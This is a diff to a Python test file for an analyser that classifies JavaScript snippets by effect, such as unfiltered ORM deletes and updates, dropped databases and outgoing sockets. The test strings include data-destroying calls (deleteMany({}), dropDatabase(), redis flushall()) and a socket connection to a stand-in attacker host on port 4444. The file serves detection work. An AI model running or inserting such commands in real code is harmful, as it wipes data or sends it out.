@@ -75,6 +75,12 @@ def test_stores_and_sockets() -> None:
     """Emptying a store and opening a socket are told; a filter makes a difference."""
     assert one("prisma.user.deleteMany({})", ChangeStore).everything
     assert not one("User.deleteMany({where: {id: 1}})", ChangeStore).everything
+    assert one("prisma.post.updateMany({data: {a: 1}})", ChangeStore).everything
+    assert not one("prisma.post.updateMany({where: {a: 2}, data: {a: 1}})", ChangeStore).everything
+    assert not one("Post.updateOne({}, {a: 1})", ChangeStore).everything
+    assert not one("User.destroy({where: {id: 1}})", ChangeStore).everything
+    assert one("require('knex')(c)('sessions').del()", ChangeStore).everything
+    assert not one("require('knex')(c)('sessions').where({id: 1}).del()", ChangeStore).everything
     assert ["ResetDatabase drop"] == deeds(node("mongoose.connection.dropDatabase()"))
     assert ["ChangeStore flush"] == deeds(node("redis.flushall()"))
     assert "evil.example" == one("require('net').connect(4444, 'evil.example')", SendData).to
